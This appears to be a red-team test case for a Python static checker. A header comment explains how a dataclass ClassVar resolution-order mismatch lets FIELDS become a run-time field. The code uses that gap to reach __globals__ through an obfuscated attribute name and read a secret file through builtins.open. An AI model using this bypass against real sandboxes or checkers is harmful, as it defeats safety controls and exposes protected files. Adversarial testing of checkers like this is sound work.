# family: red team, round 24 (what a method's self may be)
# Chain: under `from __future__ import annotations`, dataclasses decides whether "ClassVar[tuple]" is a ClassVar by
# looking ClassVar up in the module's globals *when @dataclass runs*. The checker (class_constants._class_var)
# resolves ClassVar in module scope regardless of source order: imported only *after* the class, it is one
# binding to typing.ClassVar, so FIELDS counts as a class constant; at run time it is an init field, and
# Reader((run_time_name,)) sets self.FIELDS -> `for key in self.FIELDS: getattr(fn, key)` reads __globals__.
from __future__ import annotations

import dataclasses


@dataclasses.dataclass
class Reader:
    FIELDS: ClassVar[tuple] = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


from typing import ClassVar


def helper():
    return 1


def run():
    d = bytes([95, 95]).decode()
    got = Reader((d + "globals" + d,)).fetch(helper)[0]
    print(sorted(got.keys())[:8])
    print(got[d + "builtins" + d].open("/tmp/r24/work/secret.txt").read())


run()
